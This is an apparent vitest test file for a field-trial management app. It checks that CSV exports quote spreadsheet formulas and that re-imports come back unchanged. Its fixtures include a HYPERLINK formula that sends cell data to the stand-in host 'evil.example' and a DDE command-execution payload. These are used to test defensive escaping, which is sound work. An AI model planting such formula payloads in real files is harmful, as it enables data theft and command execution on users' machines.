import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { neutralise, restore } from '../../server/imports/formula-guard.js';
import { startTestApp, type TestApp } from '../support/context.js';
import { commit, download, upload } from '../support/imports.js';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const csvRows = (bytes: Buffer) => parse(bytes.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];

describe('CSV exports neutralise formulas', () => {
  it('quotes text that a spreadsheet would run, leaves numbers, and reads back exactly', () => {
    for (const t of ['=1+1', '+SUM(A1)', '-A1', '@cmd', '\tx', '\rx', "'=x", "''@y"]) {
      expect(neutralise(t).startsWith("'")).toBe(true);
      expect(restore(neutralise(t))).toBe(t);
    }
    for (const t of ['-3.5', '+2', '1e5', 'plain', "it's", "'quoted"]) {
      expect(neutralise(t)).toBe(t);
      expect(restore(neutralise(t))).toBe(t);
    }
  });

  describe('through the API', () => {
    let app: TestApp;
    let trialId: number;
    let projectId: number;
    beforeAll(async () => {
      app = await startTestApp();
      projectId = (await app.post('/api/projects', { name: '公式', code: 'FRM1' })).body.id;
      const site = await app.post(`/api/projects/${projectId}/sites`, { name: 'S' });
      await app.post('/api/variables', { code: 'delta', name: '差值', kind: 'number' });
      trialId = (await app.post(`/api/projects/${projectId}/trials`, { name: 't', crop: 'c', design: 'crd', arms: [{ name: 'T', role: 'treatment' }, { name: 'C', role: 'control' }], variables: ['delta'] })).body.id;
      await app.post(`/api/trials/${trialId}/plots`, [{ siteId: site.body.id, label: 'P1', arm: 'T' }, { siteId: site.body.id, label: '-C1', arm: 'C' }]);
      const obs = await app.post(`/api/trials/${trialId}/observations`, [
        { plot: 'P1', variable: 'delta', value: '-3.5', observedOn: '2017-09-01', notes: FORMULA },
        { plot: '-C1', variable: 'delta', value: 2, observedOn: '2017-09-01', notes: '@SUM(1,2)' },
      ]);
      expect(obs.status).toBe(201);
      const session = await app.post(`/api/projects/${projectId}/training-sessions`, { heldOn: '2017-05-02', kind: 'training', topic: '=cmd|"/c calc"!A1', attendance: 3 });
      expect(session.status).toBe(201);
    });
    afterAll(() => app?.close());

    it('quotes formula text in the long and wide observation files, the training ledger and the Field Book file', async () => {
      const long = csvRows((await download(app, `/api/trials/${trialId}/observations/export?format=csv&shape=long`)).bytes);
      const flat = long.flat();
      expect(flat).toContain(`'${FORMULA}`);
      expect(flat).not.toContain(FORMULA);
      expect(flat).toContain("'@SUM(1,2)");
      expect(flat).toContain("'-C1");
      expect(flat).toContain('-3.5');
      const wide = csvRows((await download(app, `/api/trials/${trialId}/observations/export?format=csv&shape=wide`)).bytes).flat();
      expect(wide).toContain('-3.5');
      expect(wide).not.toContain('-C1');
      const ledger = csvRows((await download(app, `/api/projects/${projectId}/training-sessions/export?format=csv`)).bytes).flat();
      expect(ledger).toContain(`'=cmd|"/c calc"!A1`);
      const field = csvRows((await download(app, `/api/trials/${trialId}/fieldbook/field.csv`)).bytes).flat();
      expect(field).toContain("'-C1");
      expect(field).not.toContain('-C1');
    });

    it('imports its own export back unchanged', async () => {
      const file = (await download(app, `/api/trials/${trialId}/observations/export?format=csv&shape=long`)).bytes;
      const preview = await upload(app, `/api/trials/${trialId}/imports?kind=observations&shape=long`, file);
      expect(preview.status).toBe(201);
      expect(preview.body.summary).toEqual({ create: 0, update: 0, unchanged: 2, errors: 0 });
      expect((await commit(app, preview.body.id)).status).toBe(200);
      const notes = (await app.get(`/api/trials/${trialId}/observations`)).body.map((o: { notes: string }) => o.notes).sort();
      expect(notes).toEqual([FORMULA, '@SUM(1,2)'].sort());
    });
  });
});
